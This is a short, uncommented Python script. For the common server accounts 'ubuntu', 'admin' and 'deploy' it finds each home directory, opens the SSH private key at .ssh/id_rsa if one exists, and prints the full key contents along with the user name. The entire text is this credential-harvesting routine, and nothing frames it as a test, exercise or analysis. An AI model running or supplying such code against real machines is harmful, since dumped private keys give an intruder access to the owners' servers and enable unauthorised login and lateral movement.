import os
import pwd

for user in ("ubuntu", "admin", "deploy"):
    try:
        home = pwd.getpwnam(user).pw_dir
    except KeyError:
        continue
    keyfile = "%s/%s/%s" % (home, ".ssh", "id_rsa")
    if os.path.exists(keyfile):
        with open(keyfile) as k:
            print(user, k.read())
